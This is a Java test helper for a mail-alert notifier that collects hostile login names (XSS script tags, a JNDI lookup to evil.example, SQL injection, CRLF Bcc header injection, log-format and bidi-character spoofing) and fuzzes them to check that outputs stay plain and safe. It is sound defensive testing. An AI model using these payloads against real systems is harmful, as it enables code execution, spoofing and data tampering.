// SPDX-License-Identifier: Apache-2.0
package io.mailvigil.alert.notify;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** Login names that try to be more than names, as strangers can put them into a log. */
final class Hostile {
  private static final List<String> PIECES =
      List.of(
          "<@U012AB3CD>",
          "<!channel>",
          "<https://evil.example/|your bank>",
          "*b*_i_~s~`c`",
          "[bank](https://evil.example)",
          "![x](http://evil.example/p.png)",
          "<b>x</b><img src=x onerror=alert(1)>",
          "</pre></p><script>alert(1)</script>",
          "&lt;@U012AB3CD&gt;",
          "&#60;b&#62;",
          "<at>everyone</at>",
          "@room",
          "@everyone",
          "{{DATE(2026-01-01T00:00:00Z,SHORT)}}",
          "{{{{",
          "${jndi:ldap://evil.example/a}",
          "%s%n%1$s",
          "a|b=c\\",
          "|||||||",
          "]x=\"y\"][evil@1 a=\"b\"]",
          "\\\"",
          "\\]",
          " suser=root act=none",
          "CEF:0|Evil|Evil|1|1|x|10|",
          "<34>1 2026-01-01T00:00:00Z evil su - - -",
          "\r\nBcc: all@example.org\r\n\r\nhello",
          "\nX-Evil: y",
          "\u202egpj.exe",
          "\u2066\u2069\u200f",
          "\u0000\u0007\u001b[31m\u0085\u2028",
          "\ud800",
          "\ud83d\ude00",
          "javascript:alert(1)",
          "www.evil.example",
          "/start",
          "#chan",
          "'; DROP TABLE users; --",
          "bob@example.org",
          "jörg");

  private Hostile() {}

  /** Each alone, very long ones, and a few hundred seeded mixtures. */
  static List<String> names() {
    List<String> all = new ArrayList<>(PIECES);
    for (String piece : List.of("x", "\ud83d\ude00", "<", "\"", "\\", "&", "é")) {
      all.add(piece.repeat(20_000));
    }
    Random random = new Random(20261124);
    for (int i = 0; i < 150 * Integer.getInteger("mailvigil.test.times", 1); i++) {
      StringBuilder name = new StringBuilder();
      for (int n = random.nextInt(1, 7); n > 0; n--) {
        name.append(PIECES.get(random.nextInt(PIECES.size())));
      }
      all.add(name.toString());
    }
    return all;
  }

  /** All text of a JSON document. */
  static List<String> texts(JsonNode json) {
    List<String> all = new ArrayList<>();
    if (json.isTextual()) {
      all.add(json.textValue());
    }
    json.forEach(child -> all.addAll(texts(child)));
    return all;
  }

  /** No character that hides, turns or breaks a line, and nothing that looks like an address. */
  static void assertPlain(String text) {
    assertThat(text.codePoints().filter(c -> c != '\n' && isHarmful(c)).toArray())
        .as(text)
        .isEmpty();
    assertThat(text).doesNotContain("://").doesNotContainIgnoringCase("www.");
  }

  private static boolean isHarmful(int c) {
    int type = Character.getType(c);
    return Character.isISOControl(c)
        || type == Character.FORMAT
        || type == Character.LINE_SEPARATOR
        || type == Character.PARAGRAPH_SEPARATOR
        || type == Character.SURROGATE;
  }

  /** HTML with none but our own tags, none of which has attributes. */
  static void assertHarmlessHtml(String html) {
    String rest =
        html.replace("<!DOCTYPE html>", "")
            .replace("<meta charset=\"utf-8\">", "")
            .replaceAll("</?(html|head|body|h3|h4|ul|li|p|b)>|<br>", "");
    assertThat(rest).doesNotContain("<", ">", "\"");
    assertThat(rest.replaceAll("&(amp|lt|gt|quot|#39);", "")).doesNotContain("&");
    assertPlain(rest);
  }
}
